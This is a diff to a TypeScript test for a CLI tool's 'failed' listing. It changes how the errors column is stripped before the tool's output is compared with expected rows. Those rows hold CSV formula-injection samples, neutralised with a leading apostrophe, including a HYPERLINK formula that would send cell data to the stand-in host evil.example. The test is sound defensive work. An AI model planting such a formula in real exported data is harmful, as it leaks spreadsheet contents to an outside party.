@@ -142,7 +142,8 @@ describe('list and purge', () => {
     await runCliOk(workArgs({ jobId, store, schema, processor, quiet: true }));
     const guarded = (await runCliOk(['failed', jobId, '--store', store])).trimEnd().split('\n');
     const emails = (lines: string[]) => lines.slice(1).map((line) => line.split(',')[3]);
-    expect(guarded.slice(1).map((line) => line.slice(0, line.indexOf(',"email:')))).toEqual([
+    // Everything before the errors cell (quoted or not, depending on the message).
+    expect(guarded.slice(1).map((line) => line.replace(/,"?email: [^\n]*$/, ''))).toEqual([
       `1,invalid,1,"'=HYPERLINK(""http://evil.example/?x=""&A1)"`,
       "2,invalid,2,'+1+2",
       "3,invalid,3,'-2",
